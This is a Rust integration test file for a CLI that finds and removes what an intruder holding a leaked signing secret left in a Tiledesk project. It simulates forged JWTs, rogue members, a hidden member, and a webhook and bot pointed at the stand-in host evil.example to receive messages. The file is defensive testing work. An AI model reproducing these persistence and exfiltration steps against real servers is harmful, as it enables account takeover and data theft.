//! `tilepass secret incident` on a real server with an attacker of each kind in the project: each is named or said not to be
//! visible, and each command that is printed is run, and does what it says.

use std::fs;

use serde_json::{Value, json};

use crate::intruder::{Intruder, signed_by};
use crate::support::home::{Call, Home, in_words, keep};
use crate::support::real_server::RealServer;

/// The project's owner, at a shell.
struct Owner<'s> {
    server: &'s RealServer,
    home: Home,
}

impl<'s> Owner<'s> {
    fn new(server: &'s RealServer) -> Self {
        let home = Home::new();
        keep(home.path().join("pw"), &server.password);
        let set = ["project", "set", "shop", "--id", server.id.as_str(), "--server", server.url.as_str()];
        assert_eq!(home.run(&set).code, 0);
        Self { server, home }
    }

    fn call(&self, arguments: &[&str]) -> Call<'_> {
        self.home
            .tilepass(&[&["secret", "incident"], arguments].concat())
            .env("TILEPASS_ADMIN_EMAIL", &self.server.email)
            .env("TILEPASS_ADMIN_PASSWORD_FILE", self.home.path().join("pw"))
    }

    fn json(&self) -> (i32, Value) {
        let ran = self.call(&["--json", "-q"]).run();
        assert_eq!(ran.stderr, "");
        (ran.code, serde_json::from_str(&ran.stdout).unwrap())
    }

    /// What is marked, as `KIND NAME: REASONS`.
    fn marked(&self) -> Vec<String> {
        let (code, said) = self.json();
        let marked = said["marked"].as_array().unwrap();
        assert_eq!(code, i32::from(!marked.is_empty()), "{said}");
        let mut lines: Vec<String> = marked.iter().map(|thing| self.line(thing)).collect();
        lines.sort();
        lines
    }

    fn line(&self, thing: &Value) -> String {
        let text = |key: &str| thing[key].as_str();
        let name = text("email").or(text("target")).or(text("name")).or(text("uuid_user")).unwrap();
        let name = name.replace(&format!("-{}@example.com", self.server.id), "").replace(self.server.id.as_str(), "ID");
        let codes: Vec<&str> =
            thing["reasons"].as_array().unwrap().iter().map(|reason| reason["code"].as_str().unwrap()).collect();
        format!("{} {name}: {}", text("kind").unwrap(), codes.join(", "))
    }

    /// Types a line into `sh`, with the token in the environment.
    fn types(&self, line: &str, token: &str) -> String {
        let ran = self.home.shell(line).env("TILEDESK_TOKEN", token).run();
        assert_eq!((ran.code, ran.stderr.as_str()), (0, ""), "{line}\n{}", ran.stdout);
        ran.stdout
    }

    fn rotates(&self) {
        let path = format!("/{}/keys/generate", self.server.id);
        assert_eq!(self.server.post(&path, &json!({}), &self.server.admin).0, 200);
    }

    /// Whether the server's project answers to that session.
    fn lets_in(&self, session: &str) -> u16 {
        self.server.get(&format!("/{}/project_users", self.server.id), session).0
    }
}

/// What an attacker of each kind left behind.
struct Inside {
    /// Sessions that a new secret does not end.
    sessions: Vec<String>,
    /// What is to be marked.
    marked: Vec<String>,
}

/// A member: e-mail address, session and entry.
struct Member {
    email: String,
    session: String,
    entry: Value,
}

impl Owner<'_> {
    fn path(&self, list: &str) -> String {
        format!("/{}/{list}", self.server.id)
    }

    /// Makes something in the owner's name, or in another one's.
    fn makes(&self, list: &str, body: &Value, session: &str) -> Value {
        let (status, made) = self.server.post(&self.path(list), body, session);
        assert_eq!(status, 200, "{made}");
        made
    }

    fn account(&self, name: &str) -> (String, String) {
        let (email, password) = self.server.account(name);
        let session = self.server.signed_in(&email, password);
        (email, session)
    }

    fn invites(&self, name: &str, role: &str) -> Member {
        let (email, session) = self.account(name);
        let body = json!({"email": email, "role": role});
        Member { entry: self.makes("project_users/invite", &body, &self.server.admin), email, session }
    }

    /// New accounts, one that was there, roles without an account; whom these invited, and a member who was hidden.
    fn lets_members_in(&self, intruder: &Intruder<'_>) -> Inside {
        let rogue = intruder.made("rogue", "admin");
        let mut sessions = vec![rogue.clone(), intruder.made("second", "owner"), intruder.made("third", "agent")];
        let (outsider, _) = self.account("outsider");
        let claims = json!({"email": outsider, "role": "agent"});
        sessions.push(intruder.signed_in(&intruder.token(&intruder.own("outsider"), &claims)));
        for role in ["supervisor", "teammate", "my helpers"] {
            intruder.signed_in(&intruder.token(&intruder.own(role), &json!({"role": role})));
        }
        let (accomplice, accomplices) = self.account("accomplice");
        let (friend, friends) = self.account("friend");
        let (guest, guests) = self.account("guest-of-nobody");
        intruder.invites(&rogue, &accomplice, "admin");
        intruder.invites(&accomplices, &friend, "agent");
        let nobody = intruder.token(&intruder.own("nobody"), &json!({"role": "made up"}));
        intruder.signed_in(&nobody);
        intruder.invites(&nobody, &guest, "agent");
        intruder.invites(&rogue, &intruder.email("not-yet"), "admin");
        let hidden = self.invites("hidden", "agent");
        let path = self.path(&format!("project_users/{}", hidden.entry["_id"].as_str().unwrap()));
        assert_eq!(self.server.delete(&format!("{path}?soft=true"), &rogue).0, 200);
        assert_eq!(self.server.put(&path, &json!({"status": "active"}), &rogue).0, 200);
        sessions.extend([accomplices, friends, guests, hidden.session]);
        let marked = [
            "invitation not-yet: maker_marked",
            "member ID_my helpers: made_by_token",
            "member ID_supervisor: made_by_token",
            "member ID_teammate: made_by_token",
            "member accomplice: maker_marked",
            "member friend: maker_marked",
            "member guest-of-nobody: made_by_token",
            "member hidden: hidden",
            "member outsider: made_by_token",
            "member rogue: made_by_token",
            "member second: made_by_token",
            "member third: made_by_token",
        ];
        Inside { sessions, marked: marked.map(str::to_owned).to_vec() }
    }

    /// What the first of them makes, and visitors whose ids are somebody else's.
    fn lets_things_be_made(&self, intruder: &Intruder<'_>, inside: &mut Inside, bob: &Member) {
        let rogue = inside.sessions[0].clone();
        let subscription = intruder.subscribes(&rogue, "message.create", "https://evil.example/");
        let [key, id] = ["secret", "_id"].map(|field| subscription[field].as_str().unwrap());
        let aud = format!("https://tiledesk.com/subscriptions/{id}");
        inside.sessions.push(signed_by(key, id, "subscription", &aud, &json!({})));
        let bot = json!({"name": "evil", "type": "external", "url": "https://evil.example/bot"});
        let bot = self.makes("bots", &bot, &rogue);
        let path = self.path(&format!("bots/{}/jwt", bot["_id"].as_str().unwrap()));
        let (status, keys) = self.server.get(&path, &rogue);
        assert_eq!(status, 200, "{keys}");
        inside.sessions.push(format!("JWT {}", keys["jwt"].as_str().unwrap()));
        let trigger = json!({"name": "tell", "trigger": {"key": "message.create", "name": "x"}, "enabled": true});
        self.makes("modules/triggers", &trigger, &rogue);
        let bobs_id = bob.entry["id_user"].as_str().unwrap();
        let other = "0123456789abcdef01234567_17";
        for visitor in [bobs_id, other, "without-prefix"] {
            intruder.signed_in(&intruder.token(visitor, &json!({})));
        }
        inside.marked.extend([
            "bot https://evil.example/bot: maker_marked".to_owned(),
            "subscription https://evil.example/: maker_marked".to_owned(),
            "trigger tell: maker_marked".to_owned(),
            format!("visitor {other}: other_project"),
            format!("visitor {bobs_id}: account_as_visitor"),
        ]);
        inside.marked.sort_unstable();
    }

    /// Every other thing by the command in the JSON, and the rest by those on the page.
    fn removes_what_is_marked(&self, count: usize) {
        let (_, said) = self.json();
        for thing in said["marked"].as_array().unwrap().iter().step_by(2) {
            assert_eq!(self.types(thing["remove"].as_str().unwrap(), &self.server.admin), "200\n");
        }
        let page = self.call(&["-q"]).run();
        assert_eq!(page.code, 1);
        let commands: Vec<&str> = page.stdout.lines().filter(|line| line.starts_with("  remove")).collect();
        assert_eq!(commands.len(), 1 + count / 2, "the function, and one for each");
        // A token without its prefix does as well.
        let bare = self.server.admin.trim_start_matches("JWT ");
        assert_eq!(self.types(&commands.join("\n"), bare), "200\n".repeat(commands.len() - 1));
    }
}

#[test]
fn an_attacker_of_each_kind_is_named_and_removed() {
    let Some(server) = RealServer::new("an attacker of each kind") else { return };
    let owner = Owner::new(&server);
    let bob = owner.invites("bob", "admin");
    let ours = json!({"event": "request.create", "target": "https://ours.example/"});
    owner.makes("subscriptions", &ours, &server.admin);
    owner.makes("roles", &json!({"name": "my helpers", "permissions": []}), &server.admin);
    let intruder = Intruder::with_the_secret_of(&server);
    intruder.signed_in(&intruder.token(&intruder.own("17"), &json!({})));
    assert_eq!(server.post("/auth/signinAnonymously", &json!({"id_project": server.id.as_str()}), "").0, 200);
    assert_eq!(owner.marked(), Vec::<String>::new(), "an honest project");

    let mut inside = owner.lets_members_in(&intruder);
    owner.lets_things_be_made(&intruder, &mut inside, &bob);
    owner.rotates();
    assert_eq!(owner.marked(), inside.marked);
    for session in &inside.sessions {
        assert_eq!(owner.lets_in(session), 200, "a new secret does not end it: {session}");
    }

    owner.removes_what_is_marked(inside.marked.len());
    assert_eq!(owner.marked(), Vec::<String>::new());
    for session in &inside.sessions {
        assert!([401, 403].contains(&owner.lets_in(session)), "{session}");
    }
    assert_eq!(owner.lets_in(&bob.session), 200, "he was not marked");
    let listed = |list: &str| {
        let (status, list) = server.get(&owner.path(list), &server.admin);
        assert_eq!(status, 200, "{list}");
        list.to_string()
    };
    for list in ["subscriptions", "bots", "modules/triggers", "pendinginvitations"] {
        let list = listed(list);
        assert!(!list.contains("evil") && !list.contains("not-yet") && !list.contains("\"tell\""), "{list}");
    }
    assert!(listed("subscriptions").contains("https://ours.example/"));
    // Invited again, the account of a removed one is marked.
    let again = json!({"email": intruder.email("accomplice"), "role": "agent"});
    owner.makes("project_users/invite", &again, &server.admin);
    assert_eq!(owner.marked(), ["member accomplice: account"]);
}

/// What the page says of a member's own session, which no list shows.
#[test]
fn a_members_own_session_is_in_no_list_and_outlives_all_but_the_account() {
    let Some(server) = RealServer::new("a member's own session") else { return };
    let owner = Owner::new(&server);
    let Member { email: bob, session: bobs, entry } = owner.invites("bob", "admin");
    let (status, other) = server.post("/projects", &json!({"name": "bob's own"}), &bobs);
    assert_eq!(status, 200, "{other}");
    let others = format!("/{}/project_users", other["_id"].as_str().unwrap());

    let taken = Intruder::with_the_secret_of(&server).taken(&bob);
    owner.rotates();
    assert_eq!(owner.marked(), Vec::<String>::new());
    let (_, said) = owner.json();
    assert_eq!(said["not_visible"][0]["code"], "members_session");
    let words = said["not_visible"][0]["message"].as_str().unwrap();
    assert!(words.contains("`GLOBAL_SECRET`"), "{words}");
    assert_eq!((owner.lets_in(&taken), server.get(&others, &taken).0), (200, 200));
    let new = json!({"oldpsw": "correct-Horse-7", "newpsw": "correct-Horse-8"});
    assert_eq!(server.put("/users/changepsw", &new, &bobs).0, 200);
    assert_eq!(owner.lets_in(&taken), 200, "a new password does not end it");
    let path = owner.path(&format!("project_users/{}", entry["_id"].as_str().unwrap()));
    assert_eq!(server.delete(&path, &server.admin).0, 200);
    assert_eq!((owner.lets_in(&taken), server.get(&others, &taken).0), (403, 200), "a removal ends it here alone");
    owner.makes("project_users/invite", &json!({"email": bob, "role": "agent"}), &server.admin);
    assert_eq!(owner.lets_in(&taken), 200, "an invitation brings it back");
    assert_eq!(server.delete("/users", &bobs).0, 200);
    assert_eq!((owner.lets_in(&taken), server.get(&others, &taken).0), (401, 401), "a closed account ends it");
}

#[test]
fn whoever_may_not_read_everything_is_told_what() {
    let Some(server) = RealServer::new("an agent asks") else { return };
    let owner = Owner::new(&server);
    let agent = owner.invites("agent", "agent").email;
    fs::write(owner.home.path().join("pw"), "correct-Horse-7").unwrap();
    let ran = owner.call(&["--json"]).env("TILEPASS_ADMIN_EMAIL", &agent).run();
    assert_eq!(ran.code, 6, "{}", ran.stderr);
    let said: Value = serde_json::from_str(&ran.stdout).unwrap();
    let lists: Vec<&str> =
        said["unread"].as_array().unwrap().iter().map(|list| list["list"].as_str().unwrap()).collect();
    assert_eq!(lists, ["subscriptions", "triggers", "bots"]);
    assert_eq!((said["account"]["email"].as_str(), said["account"]["role"].as_str()), (Some(&*agent), Some("agent")));
    assert!(in_words(&ran.stderr).contains("hint: ask with the account of an owner"), "{}", ran.stderr);
}
